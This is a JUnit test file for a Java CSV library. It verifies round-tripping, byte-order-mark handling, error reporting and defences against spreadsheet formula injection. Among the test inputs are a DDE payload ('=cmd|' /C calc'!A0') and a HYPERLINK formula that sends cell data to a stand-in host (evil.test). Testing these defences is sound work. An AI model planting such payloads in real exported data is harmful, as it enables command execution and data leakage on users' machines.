package io.trunkline.mapping;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.trunkline.checks.Canary;
import io.trunkline.checks.Leaks;
import java.io.IOException;
import java.io.Reader;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What holds for every table that is written as CSV. */
final class CsvPropertiesTest {

    private static final String ALPHABET = "ab ,;\"'\n\r\t=+-@1.\u4f60\ud83d\ude00";

    @Test
    void table_writtenAndRead_isTheSameButForFormulas() throws Exception {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        for (int i = 0; i < 1_000; i++) {
            List<List<String>> table = table(random);
            StringWriter text = new StringWriter();
            Csv.write(text, table);

            List<Map<String, String>> read = read(text.toString());

            assertEquals(table.size() - 1, read.size(), "seed " + seed);
            for (int row = 1; row < table.size(); row++) {
                for (int column = 0; column < 3; column++) {
                    String field = table.get(row).get(column);
                    String cell = read.get(row - 1).get("c" + column);
                    assertFalse(acts(cell), "seed " + seed);
                    assertTrue(cell.equals(field) || cell.equals("'" + field), "seed " + seed);
                    assertEquals(field, FormulaGuard.original(cell), "seed " + seed);
                }
            }
        }
    }

    private static List<List<String>> table(Random random) {
        List<List<String>> table = new ArrayList<>(List.of(List.of("c0", "c1", "c2")));
        for (int row = random.nextInt(5); row > 0; row--) {
            // The first field says something, because a line without anything is no record.
            table.add(List.of("x" + field(random), field(random), field(random)));
        }
        return table;
    }

    private static String field(Random random) {
        StringBuilder text = new StringBuilder();
        int[] characters = ALPHABET.codePoints().toArray();
        for (int i = random.nextInt(6); i > 0; i--) {
            text.appendCodePoint(characters[random.nextInt(characters.length)]);
        }
        return text.toString();
    }

    /** What a spreadsheet runs, by the list of ASVS 1.2.10 and the full-width forms; a plain number does nothing. */
    private static boolean acts(String field) {
        return !field.isEmpty()
                && "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20".indexOf(field.charAt(0)) >= 0
                && !field.matches("[+-]?\\d+(\\.\\d+)?");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+cmd",
                "-cmd",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\0=1",
                "\uff1d1",
                "=HYPERLINK(\"http://evil.test?\"&A1)",
                "+1-1",
                "-1+cmd",
                "--1",
                "+44 20",
                "-1e5",
                "+",
                "+1.",
                "-.5",
                "+1.2.3",
                "+\u0661"
            })
    void T47_formula_isWrittenAsText(String field) throws Exception {
        StringWriter text = new StringWriter();

        Csv.write(text, List.of(List.of("c"), List.of(field)));

        assertEquals("'" + field, read(text.toString()).get(0).get("c"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-5", "+441632960000", "-1.25", "a=1", "'x", "1-1", "x", "a@b.test"})
    void T47_whatDoesNotAct_staysAsItIs(String field) throws Exception {
        StringWriter text = new StringWriter();

        Csv.write(text, List.of(List.of("c"), List.of(field)));

        assertEquals(field, read(text.toString()).get(0).get("c"));
    }

    @Test
    void T47_textThatLooksGuarded_isGuardedOnceMoreSoThatItComesBack() throws Exception {
        StringWriter text = new StringWriter();

        Csv.write(text, List.of(List.of("c"), List.of("'=1")));
        String cell = read(text.toString()).get(0).get("c");

        assertEquals("''=1", cell);
        assertEquals("'=1", FormulaGuard.original(cell));
    }

    @Test
    void writeAsIs_nullAndEmptyText_areTwoThings() throws Exception {
        StringWriter text = new StringWriter();

        Csv.writeAsIs(text, List.of(Arrays.asList("=1", null, "")));

        assertEquals("=1,,\"\"\r\n", text.toString());
    }

    @Test
    void read_byteOrderMarkOfASpreadsheet_isNoPartOfTheFirstName() throws Exception {
        assertEquals(List.of(Map.of("name", "x")), read("\ufeffname\r\nx\r\n"));
        assertEquals(List.of(), read(""));
        assertEquals(List.of(), read("\ufeff"));
    }

    @Test
    void read_failureOfTheReader_isNotTakenForTheFiles() {
        IllegalStateException mine = new IllegalStateException("my own");

        IllegalStateException thrown = assertThrows(
                IllegalStateException.class,
                () -> Csv.read(new StringReader("a\n1\n"), record -> {
                    throw mine;
                }));

        assertSame(mine, thrown);
    }

    @Test
    void read_sourceThatFails_isAnIoException() {
        Reader failing = new Reader() {
            private boolean begun;

            @Override
            public int read(char[] target, int offset, int length) throws IOException {
                if (begun) {
                    throw new IOException("disk gone");
                }
                begun = true;
                target[offset] = 'a';
                return 1;
            }

            @Override
            public void close() {}
        };

        assertEquals(
                "disk gone",
                assertThrows(IOException.class, () -> Csv.read(failing, record -> {}))
                        .getMessage());
    }

    @Test
    void read_fieldThatIsTooLongOrNeverEnds_isRefusedByLineOnly() {
        String secret = Canary.text();
        for (String text : List.of(
                "a\n1\n\"" + secret + "x".repeat(1 << 20) + "\"\n",
                "a,b\n1,2\n" + secret + "\n",
                "a,b\n1,2\n3,4," + secret + "\n",
                "a," + secret + "," + secret + "\n1,2,3\n")) {
            MalformedDataException thrown = Leaks.saw(assertThrows(MalformedDataException.class, () -> read(text)));
            assertTrue(thrown.getMessage().matches("CSV is not well-formed at or after line \\d+"), thrown::getMessage);
        }
    }

    @Test
    void read_fileThatIsMadeMeanwhile_givesItsRecordsOneByOne() throws Exception {
        int[] count = {0};
        Csv.read(new Endless(200_000), record -> {
            assertFalse(record.get("a").isEmpty());
            count[0]++;
        });

        assertEquals(200_000, count[0]);
    }

    /** A file that is made while it is read. */
    private static final class Endless extends Reader {

        private final int lines;
        private int line;
        private String rest = "a,b\n";

        Endless(int lines) {
            this.lines = lines;
        }

        @Override
        public int read(char[] target, int offset, int length) {
            if (rest.isEmpty()) {
                if (line == lines) {
                    return -1;
                }
                rest = line++ + ",\"x\ny\"\n";
            }
            int given = Math.min(length, rest.length());
            rest.getChars(0, given, target, offset);
            rest = rest.substring(given);
            return given;
        }

        @Override
        public void close() {}
    }

    private static List<Map<String, String>> read(String text) throws IOException {
        List<Map<String, String>> records = new ArrayList<>();
        Csv.read(new StringReader(text), records::add);
        return records;
    }
}
